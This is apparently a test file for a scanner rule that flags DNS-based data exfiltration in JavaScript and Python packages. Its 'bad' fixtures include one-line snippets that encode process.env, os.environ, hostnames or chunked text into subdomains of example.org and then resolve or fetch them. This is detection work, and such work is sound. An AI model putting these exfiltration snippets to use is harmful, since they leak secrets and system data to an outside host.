import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from './dns-leak.rule.js';

const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';

test("bad: what it looks for", () => {
  for (const code of [
    "require(\"dns\").lookup(`${data}.x.example.org`, cb)",
    "const { resolve4 } = require(\"node:dns/promises\"); resolve4(part + \".example.org\")",
    "const { Resolver } = require(\"dns\"); const r = new Resolver(); parts.forEach((part, n) => r.resolve4([part, n, \"example.org\"].join(\".\")))",
    "import dns from \"dns\"; dns.promises.resolveTxt(JSON.stringify(process.env))",
  ]) assert.equal(worst(code), 'high', code);
});

test("bad: the same in Python", () => {
  for (const code of [
    "import socket\nsocket.gethostbyname(f\"{data}.example.org\")",
    "import socket, os\nsocket.getaddrinfo(str(os.environ), 1)",
  ]) assert.equal(worst(code, 'a.py'), 'high', code);
});

test("good: what only looks like it", () => {
  for (const code of [
    "require(\"dns\").lookup(\"example.org\", cb)",
    "require(\"dns\").lookup(host, cb)",
    "require(\"dns\").lookup([\"www\", \"example.org\"].join(\".\"), cb)",
    "const dns = { lookup() {} }; dns.lookup(`${x}.example.org`)",
    "cache.lookup(`${x}.example.org`)",
  ]) assert.equal(worst(code), 'nothing', code);
});

test("good: the same in Python", () => {
  for (const code of [
    "import socket\nsocket.gethostbyname(\"example.org\")",
    "socket2.gethostbyname(f\"{x}.example.org\")",
  ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
});

test('good: the own name of a computer is looked up to learn its address', () => {
  for (const code of [
    'const os = require("os"); require("dns").lookup(os.hostname(), cb)',
    'import { hostname } from "os"; import dns from "dns/promises"; class Address { async find() { if (!this.host) this.host = hostname(); return dns.lookup(this.host) } }',
  ]) assert.equal(worst(code), 'nothing', code);
  for (const code of [
    'const os = require("os"); require("dns").lookup([os.hostname(), zone].join("."), cb)',
    'const os = require("os"); let name = os.hostname(); name += zone; require("dns").lookup(name)',
    'const os = require("os"); class A { f() { this.n = ""; this.n += os.hostname(); this.n += zone; require("dns").lookup(this.n) } }',
    'const os = require("os"); const o = {}; o.n = ""; o.n += os.hostname(); require("dns").lookup(o.n)',
    'const os = require("os"); require("dns").lookup(encode(os.hostname()))',
    'const os = require("os"); require("dns").lookup(os.userInfo().username)',
  ]) assert.equal(worst(code), 'high', code);
});

test('good: the name in an address that a server told is looked up before it is asked; bad: with anything of this computer, or before a domain', () => {
  const guard = (name: string) => `import dns from "dns/promises"; const page = await (await fetch("https://api.example.org/links")).json(); const { hostname } = new URL(page.next); const found = await dns.lookup(${name}, { all: true }); if (!found.some(isPrivate)) await fetch(page.next)`;
  assert.equal(worst(guard('hostname')), 'nothing');
  assert.equal(worst(guard('hostname.slice(1, -1)')), 'nothing');
  for (const name of ['`${page.id}.x.example.org`', 'hostname + page.id', '`${page.id}.${page.next}`', 'page.next + JSON.stringify(process.env)']) assert.equal(worst(guard(name)), 'high', name);
});

test('a resolver of its own looks up names as well', () => {
  for (const code of [
    'const { Resolver } = require("dns"); const r = new Resolver(); parts.forEach((p, i) => r.resolve4(`${i}.${p}.example.org`, () => {}))',
    'import { Resolver } from "node:dns/promises"; await new Resolver().resolveTxt(part + ".example.org")',
    'const dns = require("dns"); const r = new dns.promises.Resolver(); r.resolve(Buffer.from(JSON.stringify(process.env)).toString("hex"))',
  ]) assert.equal(worst(code), 'high', code);
  for (const code of ['const { Resolver } = require("dns"); const r = new Resolver(); r.setServers(["1.1.1.1"]); r.resolve4("example.org", cb); r.resolve4(host, cb)']) assert.equal(worst(code), 'nothing', code);
});

test('bad: a text that is cut into names of hosts', () => {
  for (const code of [
    'for (const part of text.match(/.{1,60}/g)) await fetch(`https://${part}.n.example.org/p.txt`)',
    'const labels = encode(JSON.stringify(table)).match(/.{1,60}/g) ?? []; for (let at = 0; at < labels.length; at += 3) { const name = [...labels.slice(at, at + 3), at, session].join("."); await network.fetch(`https://${name}.n.example.org/p.txt`, { method: "HEAD" }) }',
    'for (let i = 0; i < hex.length; i += 50) new WebSocket("wss://" + hex.slice(i, i + 50) + ".x.example.org")',
    'const https = require("https"); for (let i = 0; i < hex.length; i += 50) { const piece = hex.substr(i, 50); https.get({ hostname: piece + ".x.example.org" }) }',
  ]) assert.equal(findingsOf(rule, { 'a.js': code })[0]?.severity, 'high', code);
});

test('good: names of hosts that are chosen, and pieces elsewhere in an address', () => {
  for (const code of [
    'fetch(`https://${shop}.example.org/admin/api`)',
    'for (const s of ["a", "b", "c"]) fetch(`https://${s}.tile.example.org/${z}/${x}/${y}.png`)',
    'fetch(`https://${hash.slice(0, 2)}.cdn.example.org/${hash}`)',
    'for (let at = 0; at < text.length; at += 4096) await fetch(`https://${region}.upload.example.org/part`, { method: "PUT", body: text.slice(at, at + 4096) })',
    'for (const part of text.match(/.{1,900}/g)) await fetch(`https://say.example.org/?q=${part}`)',
    'const [lang] = page.match(/^[a-z]{2}/); fetch(`https://${lang}.wiki.example.org/page`)',
  ]) assert.deepEqual(findingsOf(rule, { 'a.js': code }), [], code);
});
